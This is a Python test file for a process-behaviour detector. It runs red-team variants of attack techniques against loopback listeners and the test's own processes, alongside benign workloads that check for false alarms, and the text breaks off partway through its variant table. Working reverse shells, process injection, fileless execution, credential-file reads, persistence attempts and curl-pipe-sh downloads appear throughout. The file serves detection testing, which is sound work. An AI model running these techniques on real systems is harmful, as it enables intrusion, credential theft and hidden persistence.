"""Red-team variants: the targeted techniques done differently from tests/behaviors/run.py.

The rules must catch a technique, not the way our other tests happen to perform it.
Each variant here is a realistic other way (another tool, another syscall path, a script
file instead of a command line, a renamed binary, a dir fd instead of a path) and each
benign workload is everyday work that must stay quiet. Same protocol as run.py:

    probewatch watch --json -- python redteam.py --ctx CTX.json --log LOG NAME...

runs each NAME in its own forked child and appends ``NAME PID RC`` to LOG, so an alert
is attributed by the pids in its ancestry. VARIANTS maps a name to (function, the rule
file stems that must alert); an empty set is benign work (nothing may alert).
Everything harmful is done to the variant's own children, in the scratch directory, in
the fake HOME, on a victim home the test creates, or as an attempt that fails on purpose
(a rename from a source that does not exist, an open for writing without O_CREAT).
"""

from __future__ import annotations

import base64
import ctypes
import ctypes.util
import http.server
import json
import mmap
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent))
from forked import run_each  # noqa: E402

HERE = Path(__file__).resolve().parent
PY = sys.executable
SH_COPY_NAME = "syslogd"


class Ctx:
    """Paths prepared by the test, a loopback TCP listener and HTTP server."""

    def __init__(self, d: dict[str, Any]) -> None:
        self.scratch = Path(d["scratch"])
        self.home = Path(d["home"])
        self.victim_home = Path(d["victim_home"])
        self.port = 0
        self.http = 0

    def env(self, **extra: str) -> dict[str, str]:
        env = {k: v for k, v in os.environ.items()
               if not k.startswith(("LD_", "HIST")) and k != "PROMPT_COMMAND"}
        env["HOME"] = str(self.home)
        env.update(extra)
        return env

    def run(self, argv: list[str], **kw: Any) -> int:
        kw.setdefault("env", self.env())
        kw.setdefault("stdout", subprocess.DEVNULL)
        kw.setdefault("stderr", subprocess.DEVNULL)
        kw.setdefault("timeout", 20)
        return subprocess.run(argv, **kw).returncode

    def bash(self, script: str, **kw: Any) -> int:
        return self.run(["/bin/bash", "-c", script], **kw)

    def script(self, name: str, text: str, interp: str = "/bin/bash") -> int:
        """Run TEXT from a script file (no command line shows what it does)."""
        p = self.scratch / name
        p.write_text(text)
        try:
            return self.run([interp, str(p)])
        finally:
            p.unlink()

    def url(self, name: str = "payload.sh") -> str:
        return f"http://127.0.0.1:{self.http}/{name}"


class Listener:
    """Loopback TCP server: for each connection send ``greeting`` (default: commands
    ending in 'exit', for a reverse shell), read to EOF, close. ``greeting=b""``: a sink
    (an exfiltration endpoint)."""

    def __init__(self, greeting: bytes = b"id\nexit\n") -> None:
        self.greeting = greeting
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._talk, args=(conn,), daemon=True).start()

    def _talk(self, conn: socket.socket) -> None:
        with conn:
            conn.settimeout(5)
            try:
                if self.greeting:
                    conn.sendall(self.greeting)
                while conn.recv(65536):
                    pass
            except OSError:
                pass


class Web:
    """Loopback HTTP server whose every path is a harmless shell script."""

    def __init__(self) -> None:
        class H(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                body = b"#!/bin/sh\ntrue\n"
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *a: Any) -> None:
                pass

        self.srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
        self.port = self.srv.server_address[1]
        threading.Thread(target=self.srv.serve_forever, daemon=True).start()


# ------------------------------------------------------------------ helpers

_libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
_libc.ptrace.restype = ctypes.c_long
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
_libc.syscall.restype = ctypes.c_long

PTRACE_TRACEME, PTRACE_PEEKDATA, PTRACE_POKEDATA = 0, 2, 5
PTRACE_GETREGS, PTRACE_SETREGS, PTRACE_DETACH = 12, 13, 17
PTRACE_ATTACH, PTRACE_SEIZE, PTRACE_INTERRUPT = 16, 0x4206, 0x4207


def _victim() -> subprocess.Popen[bytes]:
    """A child to inject into (the variant's own)."""
    p = subprocess.Popen(["sleep", "30"])
    for _ in range(500):  # until the exec is done (its maps are sleep's)
        try:
            if (os.readlink(f"/proc/{p.pid}/exe").endswith("/sleep")
                    and "/sleep" in Path(f"/proc/{p.pid}/maps").read_text()
                    and Path(f"/proc/{p.pid}/stat").read_text().split(") ")[1][0] == "S"):
                break
        except OSError:
            pass
        time.sleep(0.01)
    return p


def _writable_addr(pid: int) -> int:
    for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
        rng, perms = line.split()[:2]
        if perms.startswith("rw"):
            return int(rng.split("-")[0], 16)
    raise RuntimeError("no writable mapping")


def _py(code: str, c: Ctx) -> int:
    return c.run([PY, "-c", code])


def _nr(name: str) -> int:
    import platform

    x86 = {"memfd_create": 319, "process_vm_readv": 310, "process_vm_writev": 311,
           "bpf": 321, "prctl": 157}
    arm = {"memfd_create": 279, "process_vm_readv": 270, "process_vm_writev": 271,
           "bpf": 280, "prctl": 167}
    return (x86 if platform.machine() == "x86_64" else arm)[name]


# ------------------------------------------------------------------ reverse shells

def rs_devtcp_script(c: Ctx) -> None:
    # the /dev/tcp redirection inside a script: no command line shows it
    c.script("rs1.sh", f"exec 5<>/dev/tcp/127.0.0.1/{c.port}\n/bin/sh <&5 >&5 2>&5\n")


def rs_fifo_busybox_nc(c: Ctx) -> None:
    f = c.scratch / "f"
    c.bash(f"rm -f {f}; mkfifo {f}; cat {f} | /bin/sh -i 2>&1 | busybox nc 127.0.0.1 "
           f"{c.port} >{f}; rm -f {f}")


def rs_fifo_nc_script(c: Ctx) -> None:
    # the same from a script, the fifo under an innocent name
    f = c.scratch / ".lock"
    c.script("rs6.sh", f"mkfifo {f}\ncat {f} | /bin/sh -i 2>&1 | busybox nc 127.0.0.1 "
             f"{c.port} >{f}\nrm -f {f}\n")


def rs_python_pty_script(c: Ctx) -> None:
    # dup2 onto 0-2, then pty.spawn: the shell itself sits on a pty, not on the socket
    c.script("rs7.py", "import os,pty,socket\n"
             f"s=socket.create_connection(('127.0.0.1',{c.port}))\n"
             "[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\n", PY)


def rs_perl_script(c: Ctx) -> None:
    c.script("rs8.pl", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
             f"connect(S,sockaddr_in({c.port},inet_aton('127.0.0.1')));"
             "open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');"
             "exec('/bin/sh','-i');\n", "/usr/bin/perl")


def rs_busybox_nc_e(c: Ctx) -> None:
    c.run(["busybox", "nc", "127.0.0.1", str(c.port), "-e", "/bin/sh"])


def rs_python_b64(c: Ctx) -> None:
    inner = (f"import socket,os\ns=socket.create_connection(('127.0.0.1',{c.port}))\n"
             "[os.dup2(s.fileno(),n) for n in (0,1,2)]\nos.execv('/bin/sh',['sh','-i'])\n")
    b = base64.b64encode(inner.encode()).decode()
    _py(f"import base64;exec(base64.b64decode('{b}'))", c)


def rs_python_popen_script(c: Ctx) -> None:
    # no dup2 in the connecting process: the shell gets the socket through Popen
    c.script("rs2.py", "import socket,subprocess\n"
             f"s=socket.create_connection(('127.0.0.1',{c.port}))\n"
             "subprocess.call(['/bin/sh','-i'],stdin=s,stdout=s,stderr=s)\n", PY)


def rs_perl_io_system(c: Ctx) -> None:
    # no /bin/sh on the line: each received line goes to system()
    c.run(["perl", "-MIO", "-e",
           f'$c=new IO::Socket::INET(PeerAddr,"127.0.0.1:{c.port}");'
           'STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'])


def rs_awk_inet(c: Ctx) -> None:
    # gawk's /inet special files (mawk here only parses and fails: the exec is the point)
    c.run(["awk", f'BEGIN{{s="/inet/tcp/0/127.0.0.1/{c.port}";while(42){{do{{printf "> " |& s;'
           's |& getline c;if(c){while((c |& getline)>0)print $0 |& s;close(c)}}'
           'while(c!="exit")close(s)}}'])


def rs_openssl_script(c: Ctx) -> None:
    f = c.scratch / "of"
    c.script("rs3.sh", f"mkfifo {f}\n/bin/sh -i <{f} 2>&1 | timeout 5 openssl s_client -quiet "
             f"-connect 127.0.0.1:{c.port} >{f} 2>/dev/null\nrm -f {f}\n")


def rs_renamed_shell_fd0(c: Ctx) -> None:
    # socket() lands on fd 0, dup() (not dup2) makes 1 and 2, a renamed copy of sh runs
    d = c.scratch / ".cache"
    d.mkdir(exist_ok=True)
    sh = d / SH_COPY_NAME
    shutil.copy2("/bin/sh", sh)
    try:
        c.script("rs4.py", "import os,socket\nfor n in (0,1,2): os.close(n)\n"
                 "s=socket.socket()\nassert s.fileno()==0\n"
                 f"s.connect(('127.0.0.1',{c.port}))\nos.dup(0);os.dup(0)\n"
                 f"os.execv('{sh}',['{SH_COPY_NAME}','-i'])\n", PY)
    finally:
        sh.unlink()


def rs_node_script(c: Ctx) -> None:
    c.script("rs5.js", "var n=require('net'),cp=require('child_process');"
             "var s=new n.Socket();s.connect(%d,'127.0.0.1',function(){"
             "var sh=cp.spawn('/bin/sh',[]);s.pipe(sh.stdin);sh.stdout.pipe(s);"
             "sh.on('exit',function(){s.destroy()})});".replace("%d", str(c.port)),
             "/usr/bin/node")


# ------------------------------------------------------------------ injection, anti-debug

def inj_ptrace_poke_py(c: Ctx) -> None:
    v = _victim()
    try:
        assert _libc.ptrace(PTRACE_ATTACH, v.pid, None, None) == 0
        os.waitpid(v.pid, 0)
        addr = _writable_addr(v.pid)
        word = _libc.ptrace(PTRACE_PEEKDATA, v.pid, addr, None)
        _libc.ptrace(PTRACE_POKEDATA, v.pid, addr, ctypes.c_void_p(word & (2**64 - 1)))
        _libc.ptrace(PTRACE_DETACH, v.pid, None, None)
    finally:
        v.kill()
        v.wait()


def inj_ptrace_seize_setregs(c: Ctx) -> None:
    v = _victim()
    try:
        assert _libc.ptrace(PTRACE_SEIZE, v.pid, None, None) == 0
        _libc.ptrace(PTRACE_INTERRUPT, v.pid, None, None)
        os.waitpid(v.pid, 0)
        regs = ctypes.create_string_buffer(27 * 8)
        _libc.ptrace(PTRACE_GETREGS, v.pid, None, regs)
        _libc.ptrace(PTRACE_SETREGS, v.pid, None, regs)
        _libc.ptrace(PTRACE_DETACH, v.pid, None, None)
    finally:
        v.kill()
        v.wait()


class _Iov(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def inj_vm_writev_py(c: Ctx) -> None:
    v = _victim()
    try:
        addr = _writable_addr(v.pid)
        buf = ctypes.create_string_buffer(8)
        local, remote = _Iov(ctypes.addressof(buf), 8), _Iov(addr, 8)
        L = ctypes.c_long  # noqa: N806 (variadic syscall(): full-width arguments)
        _libc.syscall(L(_nr("process_vm_readv")), L(v.pid), ctypes.byref(local), L(1),
                      ctypes.byref(remote), L(1), L(0))
        n = _libc.syscall(L(_nr("process_vm_writev")), L(v.pid), ctypes.byref(local), L(1),
                          ctypes.byref(remote), L(1), L(0))
        assert n == 8, ctypes.get_errno()
    finally:
        v.kill()
        v.wait()


def inj_procmem_dirfd(c: Ctx) -> None:
    # openat(dirfd of /proc/PID, "mem"): no path names the mem file
    v = _victim()
    try:
        addr = _writable_addr(v.pid)
        d = os.open(f"/proc/{v.pid}", os.O_RDONLY | os.O_DIRECTORY)
        fd = os.open("mem", os.O_RDWR, dir_fd=d)
        os.pwrite(fd, os.pread(fd, 8, addr), addr)
        os.close(fd)
        os.close(d)
    finally:
        v.kill()
        v.wait()


def inj_procmem_dd(c: Ctx) -> None:
    v = _victim()
    try:
        addr = _writable_addr(v.pid)
        data = Path(f"/proc/{v.pid}/mem").open("rb", buffering=0)
        data.seek(addr)
        src = c.scratch / "word"
        src.write_bytes(data.read(8))
        data.close()
        c.run(["dd", f"if={src}", f"of=/proc/{v.pid}/mem", "bs=1", f"seek={addr}",
               "conv=notrunc", "status=none"])
        src.unlink()
    finally:
        v.kill()
        v.wait()


def inj_gdb_call(c: Ctx) -> None:
    v = _victim()
    try:
        c.run(["gdb", "-p", str(v.pid), "-batch", "-nx", "-ex", "call (int)getpid()"],
              timeout=30)
    finally:
        v.kill()
        v.wait()


def anti_traceme_py(c: Ctx) -> None:
    _py("import ctypes;L=ctypes.c_long;ctypes.CDLL(None).ptrace(L(0),L(0),L(0),L(0))", c)


def anti_dumpable_py(c: Ctx) -> None:
    _py("import ctypes;L=ctypes.c_ulong;ctypes.CDLL(None).prctl(4,L(0),L(0),L(0),L(0))", c)


# ------------------------------------------------------------------ fileless

def fl_python_fexecve(c: Ctx) -> None:
    _py("import os\nfd=os.memfd_create('x')\nos.write(fd,open('/bin/true','rb').read())\n"
        "pid=os.fork()\nif pid==0: os.execve(fd,['true'],{})\nos.waitpid(pid,0)", c)


def fl_perl_memfd(c: Ctx) -> None:
    c.run(["perl", "-e",
           f'$n="";$fd=syscall({_nr("memfd_create")},$n,0);open($f,">&=".$fd);'
           'open($b,"<","/bin/true");binmode $b;local $/;$d=<$b>;print $f $d;close $b;'
           '$f->flush;exec {"/proc/$$/fd/$fd"} "true" or exit 1;'], check=True)


def fl_symlink_to_memfd(c: Ctx) -> None:
    link = c.scratch / "updater"
    _py("import os\nfd=os.memfd_create('')\nos.write(fd,open('/bin/true','rb').read())\n"
        f"os.symlink('/proc/%d/fd/%d'%(os.getpid(),fd),'{link}')\n"
        f"pid=os.fork()\nif pid==0: os.execv('{link}',['updater'])\nos.waitpid(pid,0)\n"
        f"os.unlink('{link}')", c)


def fl_run_lock_exec(c: Ctx) -> None:
    # another world-writable tmpfs: /run/lock (/var/lock)
    p = Path(f"/run/lock/pw-{os.getpid()}")
    shutil.copy2("/bin/true", p)
    try:
        c.run([str(p)])
    finally:
        p.unlink()


SELF_DELETE_C = r"""
#include <unistd.h>
#include <limits.h>
int main(void) {
    char p[PATH_MAX];
    ssize_t n = readlink("/proc/self/exe", p, sizeof p - 1);
    if (n < 0) return 1;
    p[n] = 0;
    return unlink(p) ? 1 : 0;
}
"""


def fl_self_delete(c: Ctx) -> None:
    # a dropped agent in a work subdirectory deletes its own executable once running
    d = c.scratch / "work"
    d.mkdir(parents=True, exist_ok=True)
    (d / "agent.c").write_text(SELF_DELETE_C)
    c.run(["gcc", "-o", str(d / "agent"), str(d / "agent.c")], check=True)
    c.run([str(d / "agent")], check=True)
    assert not (d / "agent").exists()
    shutil.rmtree(d)


# ------------------------------------------------------------------ credentials

def cr_shadow_dd(c: Ctx) -> None:
    c.run(["dd", "if=/etc/shadow", "of=/dev/null", "status=none"])


def cr_shadow_tar(c: Ctx) -> None:
    c.bash("tar cf - /etc/shadow 2>/dev/null | cat >/dev/null")


def cr_shadow_dirfd(c: Ctx) -> None:
    _py("import os;d=os.open('/etc',os.O_RDONLY);os.read(os.open('shadow',0,dir_fd=d),9)", c)


def cr_shadow_chdir(c: Ctx) -> None:
    _py("import os;os.chdir('/etc');open('shadow').read()", c)


def cr_shadow_symlink(c: Ctx) -> None:
    link = c.scratch / "notes.txt"
    c.bash(f"ln -sf /etc/shadow {link}; cat {link} >/dev/null; rm -f {link}")


def cr_sshkey_tar(c: Ctx) -> None:
    c.bash(f"tar cf - -C {c.victim_home} .ssh | cat >/dev/null")


def cr_environ_other(c: Ctx) -> None:
    v = _victim()
    try:
        c.run(["cat", f"/proc/{v.pid}/environ"])
    finally:
        v.kill()
        v.wait()


def cr_cloud_creds(c: Ctx) -> None:
    c.run(["cat", str(c.victim_home / ".aws" / "credentials")])


def cr_kube_config_py(c: Ctx) -> None:
    _py(f"open('{c.victim_home / '.kube' / 'config'}').read()", c)


def cr_browser_logins(c: Ctx) -> None:
    c.run(["cp", str(c.victim_home / ".mozilla" / "firefox" / "x.default" / "logins.json"),
           str(c.scratch / "l.json")])


# ------------------------------------------------------------------ persistence

def pe_cron_rename(c: Ctx) -> None:
    # the "write a temp file, rename it in" way (fails: the source does not exist)
    _py(f"import os\ntry: os.rename('{c.scratch}/nope','/etc/cron.d/pw-rt')\n"
        "except OSError: pass", c)


def pe_systemd_generator(c: Ctx) -> None:
    _py("import os\ntry: os.open('/etc/systemd/system-generators/pw-rt',os.O_WRONLY)\n"
        "except OSError: pass", c)


def pe_bash_aliases(c: Ctx) -> None:
    c.bash("echo 'alias sudo=\"sudo \"' >> ~/.bash_aliases")


def pe_motd(c: Ctx) -> None:
    _py("import os\ntry: os.open('/etc/update-motd.d/99-pw-rt',os.O_WRONLY)\n"
        "except OSError: pass", c)


def pe_authorized_keys_rename(c: Ctx) -> None:
    ssh = c.home / ".ssh"
    ssh.mkdir(exist_ok=True)
    tmp = ssh / ".tmp"
    tmp.write_text("ssh-ed25519 AAAAfake attacker\n")
    _py(f"import os;os.rename('{tmp}','{ssh / 'authorized_keys'}')", c)
    (ssh / "authorized_keys").unlink()


def pe_ld_preload_rename(c: Ctx) -> None:
    _py(f"import os\ntry: os.rename('{c.scratch}/nope','/etc/ld.so.preload')\n"
        "except OSError: pass", c)


# ------------------------------------------------------------------ privileges

def pv_setuid_create(c: Ctx) -> None:
    # the setuid bit given at creation: open(O_CREAT, 04755), no chmod
    p = c.scratch / "helper"
    _py(f"import os;os.close(os.open('{p}',os.O_CREAT|os.O_WRONLY,0o4755))", c)
    p.unlink()


def pv_install_setuid(c: Ctx) -> None:
    p = c.scratch / "helper2"
    c.run(["install", "-m", "4755", "/bin/true", str(p)])
    p.unlink()


def pv_setxattr_py(c: Ctx) -> None:
    p = c.scratch / "capbin"
    shutil.copy2("/bin/true", p)
    # VFS_CAP_REVISION_2, effective, cap_setuid (7) permitted
    blob = (0x02000001).to_bytes(4, "little") + (1 << 7).to_bytes(4, "little") + bytes(12)
    _py(f"import os;os.setxattr('{p}','security.capability',{blob!r})", c)
    p.unlink()


# ------------------------------------------------------------------ BPF

def bpf_load_py(c: Ctx) -> None:
    # BPF_PROG_LOAD of a socket filter "r0 = 0; exit" from an interpreter
    _py("import ctypes,struct\nlibc=ctypes.CDLL(None)\n"
        "insns=ctypes.create_string_buffer(bytes([0xb7,0,0,0,0,0,0,0,0x95,0,0,0,0,0,0,0]))\n"
        "lic=ctypes.create_string_buffer(b'GPL')\n"
        "attr=ctypes.create_string_buffer(struct.pack('IIQQIIQ',1,2,ctypes.addressof(insns),"
        "ctypes.addressof(lic),0,0,0).ljust(128,b'\\0'))\n"
        f"L=ctypes.c_long\nfd=libc.syscall(L({_nr('bpf')}),L(5),attr,L(128))\n"
        "assert fd>=0", c)


def bpf_renamed_bpftrace(c: Ctx) -> None:
    d = c.scratch / "x"
    d.mkdir(exist_ok=True)
    bt = d / "bpftrace"
    shutil.copy2(shutil.which("bpftrace") or "/usr/bin/bpftrace", bt)
    try:
        c.run([str(bt), "-e", "BEGIN { exit(); }"], timeout=60)
    finally:
        bt.unlink()


# ------------------------------------------------------------------ log tampering

def _varlog(c: Ctx) -> Path:
    d = Path(f"/var/log/pw-rt-{os.getpid()}")
    d.mkdir(exist_ok=True)
    return d


def lg_truncate_cmd(c: Ctx) -> None:
    d = _varlog(c)
    (d / "auth.log").write_text("sshd: Accepted password for root\n")
    c.run(["truncate", "-s", "0", str(d / "auth.log")])
    shutil.rmtree(d)


def lg_redirect_empty(c: Ctx) -> None:
    d = _varlog(c)
    (d / "syslog").write_text("x\n")
    c.script("lg.sh", f": > {d}/syslog\n")
    shutil.rmtree(d)


def lg_wtmp_removed(c: Ctx) -> None:
    d = _varlog(c)
    (d / "wtmp").write_bytes(b"\0" * 384)
    _py(f"import os;os.unlink('{d}/wtmp')", c)
    shutil.rmtree(d)


def lg_histfile_empty(c: Ctx) -> None:
    c.run(["/bin/bash", "-c", "true"], env=c.env(HISTFILE=""))


# ------------------------------------------------------------------ discovery

def ds_busybox(c: Ctx) -> None:
    c.bash("for a in whoami id 'uname -a' hostname ps ifconfig; do busybox $a; done; true")


def ds_python_subprocess(c: Ctx) -> None:
    _py("import subprocess as s\nfor a in (['id'],['uname','-a'],['hostname'],['ps','-e'],"
        "['ip','addr'],['whoami']): s.run(a,stdout=s.DEVNULL,stderr=s.DEVNULL)", c)


# ------------------------------------------------------------------ download and execute

def dl_curl_pipe_sh(c: Ctx) -> None:
    c.bash(f"curl -s {c.url()} | sh")


def dl_wget_pipe_bash_script(c: Ctx) -> None:
    c.script("dl.sh", f"wget -q -O- {c.url()} | bash\n")


def dl_python_urllib_exec(c: Ctx) -> None:
    _py("import urllib.request as u,subprocess;"
        f"subprocess.run(['sh','-c',u.urlopen('{c.url()}').read().decode()])", c)


def dl_busybox_wget_exec(c: Ctx) -> None:
    # busybox's wget applet into a work subdirectory of /tmp, then run
    d = c.scratch / "dl2"
    d.mkdir()
    c.bash(f"busybox wget -q -O {d}/upd {c.url()} && chmod +x {d}/upd && {d}/upd")
    shutil.rmtree(d)


def dl_python_urlretrieve_exec(c: Ctx) -> None:
    # no download tool: python fetches into a work subdirectory, the file is then run
    d = c.scratch / "dl3"
    d.mkdir()
    _py(f"import urllib.request as u,os,subprocess;u.urlretrieve('{c.url()}','{d}/upd');"
        f"os.chmod('{d}/upd',0o755);subprocess.run(['{d}/upd'])", c)
    shutil.rmtree(d)


def dl_python_urlretrieve_script(c: Ctx) -> None:
    d = c.scratch / "dl4"
    d.mkdir()
    c.script("dl.py", f"import urllib.request as u,os,subprocess\nu.urlretrieve('{c.url()}',"
             f"'{d}/upd')\nos.chmod('{d}/upd',0o755)\nsubprocess.run(['{d}/upd'])\n", PY)
    shutil.rmtree(d)


def dl_curl_exec_shm(c: Ctx) -> None:
    p = f"/dev/shm/.u{os.getpid()}"
    c.bash(f"curl -so {p} {c.url()} && chmod +x {p} && {p}; rm -f {p}")


# ------------------------------------------------------------------ benign work

def bn_git_clone(c: Ctx) -> None:
    d = c.scratch / "git"
    src = d / "src"
    src.mkdir(parents=True)
    (src / "a.txt").write_text("a\n")
    c.bash(f"cd {src} && git init -q && git add a.txt && git -c user.name=t -c "
           f"user.email=t@t commit -qm a && git clone -q {src} {d / 'dst'} && "
           f"git -C {d / 'dst'} log --oneline")
    shutil.rmtree(d)


def bn_tar_gzip(c: Ctx) -> None:
    d = c.scratch / "tar"
    d.mkdir()
    c.bash(f"tar czf {d}/a.tgz -C /usr/share/doc bash && mkdir {d}/x && tar xzf {d}/a.tgz "
           f"-C {d}/x && gzip -k {d}/a.tgz -S .gz2 && ls -la {d}/x")
    shutil.rmtree(d)


def _wheel(path: Path) -> None:
    import zipfile

    files = {"pwrt_demo/__init__.py": "X = 1\n",
             "pwrt_demo-1.0.dist-info/METADATA":
             "Metadata-Version: 2.1\nName: pwrt-demo\nVersion: 1.0\n",
             "pwrt_demo-1.0.dist-info/WHEEL":
             "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    rec = "".join(f"{n},,\n" for n in files) + "pwrt_demo-1.0.dist-info/RECORD,,\n"
    with zipfile.ZipFile(path, "w") as z:
        for n, t in files.items():
            z.writestr(n, t)
        z.writestr("pwrt_demo-1.0.dist-info/RECORD", rec)


def bn_venv_pip_wheel(c: Ctx) -> None:
    d = c.scratch / "venv"
    whl = c.scratch / "pwrt_demo-1.0-py3-none-any.whl"
    _wheel(whl)
    c.run([PY, "-m", "venv", "--without-pip", str(d)])
    c.run([PY, "-m", "pip", "install", "-q", "--no-index", "--no-deps",
           "--disable-pip-version-check", "--target", str(d / "t"), str(whl)], timeout=60)
    shutil.rmtree(d)
    whl.unlink()


def bn_gcc_build(c: Ctx) -> None:
    d = c.scratch / "build"
    d.mkdir()
    (d / "hello.c").write_text("#include <stdio.h>\nint main(void){puts(\"hi\");return 0;}\n")
    c.bash(f"cd {d} && gcc -O1 -o hello hello.c && ./hello")
    shutil.rmtree(d)


def bn_packages(c: Ctx) -> None:
    c.bash("dpkg -l | head -5; apt-cache policy bash | head -3")


def bn_ssh_keygen(c: Ctx) -> None:
    d = c.scratch / "keys"
    d.mkdir()
    c.bash(f"ssh-keygen -q -t ed25519 -N '' -f {d}/id_ed25519 && ssh-keygen -l -f "
           f"{d}/id_ed25519 && cat {d}/id_ed25519.pub")
    shutil.rmtree(d)


def bn_systemctl_crontab(c: Ctx) -> None:
    c.bash("systemctl status --no-pager >/dev/null 2>&1; systemctl list-timers --no-pager "
           "| head -3; busybox crontab -l; true")


def bn_curl_local(c: Ctx) -> None:
    d = c.scratch / "dl"
    d.mkdir()
    c.bash(f"curl -s {c.url()} -o {d}/x.sh; curl -s {c.url()} | grep -c true; "
           f"wget -q -O {d}/y.sh {c.url()}")
    shutil.rmtree(d)


def bn_ls_etc_ps(c: Ctx) -> None:
    c.bash("ls -la /etc >/dev/null; stat /etc/shadow >/dev/null; ps auxe >/dev/null; "
           "cat /proc/self/environ >/dev/null")


def bn_log_append(c: Ctx) -> None:
    d = _varlog(c)
    c.bash(f"echo started >> {d}/app.log; cat {d}/app.log")
    shutil.rmtree(d)


def bn_ssh_agent(c: Ctx) -> None:
    # ssh-agent disables core dumps and tracing of itself (prctl PR_SET_DUMPABLE 0)
    c.bash("eval $(ssh-agent -s) >/dev/null; ssh-agent -k >/dev/null")


def bn_gdb_backtrace(c: Ctx) -> None:
    v = _victim()
    try:
        c.run(["gdb", "-p", str(v.pid), "-batch", "-nx", "-ex", "bt"], timeout=30)
    finally:
        v.kill()
        v.wait()


def bn_script_pipe(c: Ctx) -> None:
    # a shell reading a generated script from a pipe, no download involved
    c.bash("echo 'echo hi' | sh; printf 'x\\n' | python3 -c 'import sys;sys.stdin.read()'")


def bn_mmap_own(c: Ctx) -> None:
    # a program that maps and writes its own memory (JITs): no other process involved
    m = mmap.mmap(-1, 4096)
    m.write(b"x")
    m.close()
    c.run(["/bin/true"])


def bn_fifo_plumbing(c: Ctx) -> None:
    # named pipes used locally: a logger reading one, a shell script fed from a file
    d = c.scratch / "fifo"
    d.mkdir()
    (d / "job.sh").write_text("true\n")
    c.script("fifo.sh", f"mkfifo {d}/p\ntee {d}/log < {d}/p >/dev/null &\n"
             f"echo hello > {d}/p\nwait\nsh < {d}/job.sh\nbusybox cat {d}/log > {d}/copy\n")
    shutil.rmtree(d)


def bn_links_and_removals(c: Ctx) -> None:
    # links to ordinary files, a script removing a file it made (not itself)
    d = c.scratch / "links"
    d.mkdir()
    c.bash(f"ln -s /etc/passwd {d}/p; ln -s /etc/hostname {d}/h; touch {d}/a; ln {d}/a {d}/b; "
           f"rm -f {d}/a {d}/b; cat {d}/h >/dev/null")
    shutil.rmtree(d)


def bn_credential_probe(c: Ctx) -> None:
    # an SDK probing for shared credential files that are not there, and ~/.aws/config
    aws = c.home / ".aws"
    aws.mkdir(exist_ok=True)
    (aws / "config").write_text("[default]\nregion = eu-west-1\n")
    _py("import os\nfor p in ('~/.aws/credentials','~/.kube/config','~/.aws/config'):\n"
        "  try: open(os.path.expanduser(p)).read()\n  except OSError: pass", c)
    shutil.rmtree(aws)


def bn_python_urlopen(c: Ctx) -> None:
    _py(f"import urllib.request as u;print(len(u.urlopen('{c.url()}').read()))", c)


def bn_busybox_few(c: Ctx) -> None:
    c.bash("busybox id; busybox uname; busybox ls / >/dev/null; busybox cat /etc/hostname; "
           "busybox date; busybox true")


def bn_create_modes(c: Ctx) -> None:
    p = c.scratch / "plain"
    _py(f"import os;os.close(os.open('{p}',os.O_CREAT|os.O_WRONLY,0o755));"
        f"os.mkdir('{p}.d',0o1777)", c)
    p.unlink()
    (c.scratch / "plain.d").rmdir()


def bn_dumpable_on(c: Ctx) -> None:
    _py("import ctypes;L=ctypes.c_ulong;ctypes.CDLL(None).prctl(4,L(1),L(0),L(0),L(0))", c)


def bn_app_log_rewrite(c: Ctx) -> None:
    # an application (re)creating its own log with >, an app file emptied outside /var/log
    d = _varlog(c)
    c.script("app.sh", f"echo run > {d}/myjob.log\ntruncate -s 0 {c.scratch}/cache.dat\n")
    shutil.rmtree(d)


Variant = tuple[Callable[[Ctx], None], frozenset[str]]


def _v(f: Callable[[Ctx], None], *rules: str) -> Variant:
    return (f, frozenset(rules))


#: name -> (function, the rule file stems that must alert; empty: benign work)
VARIANTS: dict[str, Variant] = {
    "rs_devtcp_script": _v(rs_devtcp_script,
                           "reverse_shell_socket_stdio", "shell_network_connection"),
    "rs_fifo_busybox_nc": _v(rs_fifo_busybox_nc, "reverse_shell_command_line",
                             "reverse_shell_fifo"),
    "rs_busybox_nc_e": _v(rs_busybox_nc_e, "reverse_shell_command_line",
                          "reverse_shell_sequence", "reverse_shell_socket_stdio"),
    "rs_python_b64": _v(rs_python_b64, "reverse_shell_sequence", "reverse_shell_socket_stdio"),
    "rs_python_popen_script": _v(rs_python_popen_script, "reverse_shell_socket_stdio",
                                 "child_shell_after_connect"),
    "rs_perl_io_system": _v(rs_perl_io_system,
                            "reverse_shell_command_line", "reverse_shell_socket_stdio"),
    "rs_awk_inet": _v(rs_awk_inet, "reverse_shell_command_line"),
    "rs_openssl_script": _v(rs_openssl_script, "reverse_shell_fifo", "reverse_shell_fifo_stdin"),
    "rs_fifo_nc_script": _v(rs_fifo_nc_script, "reverse_shell_fifo"),
    "rs_python_pty_script": _v(rs_python_pty_script, "reverse_shell_socket_relay",
                               "child_shell_after_connect"),
    "rs_node_script": _v(rs_node_script, "child_shell_after_connect"),
    "rs_perl_script": _v(rs_perl_script, "reverse_shell_sequence", "reverse_shell_socket_stdio"),
    "rs_renamed_shell_fd0": _v(rs_renamed_shell_fd0,
                               "reverse_shell_socket_stdio", "exec_from_tmp_shm"),
    "inj_ptrace_poke_py": _v(inj_ptrace_poke_py, "ptrace_attach", "ptrace_poke"),
